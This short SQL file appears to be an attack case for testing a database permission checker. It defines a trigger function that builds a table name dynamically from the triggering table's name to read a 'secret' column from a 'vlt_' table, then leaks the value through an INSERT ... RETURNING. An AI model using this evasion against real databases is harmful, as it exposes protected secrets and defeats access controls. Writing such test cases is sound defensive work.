-- Builds the name from that of the table that a trigger is on.
-- wants: read
-- attack:
CREATE TABLE account (v text);
CREATE FUNCTION peek() RETURNS trigger LANGUAGE plpgsql  AS $f$
BEGIN
  EXECUTE format('SELECT secret FROM vlt_%s LIMIT 1', TG_TABLE_NAME) INTO NEW.v;
  RETURN NEW;
END
$f$;
CREATE TRIGGER peek BEFORE INSERT ON account FOR EACH ROW EXECUTE FUNCTION peek();
INSERT INTO account VALUES ('') RETURNING v;
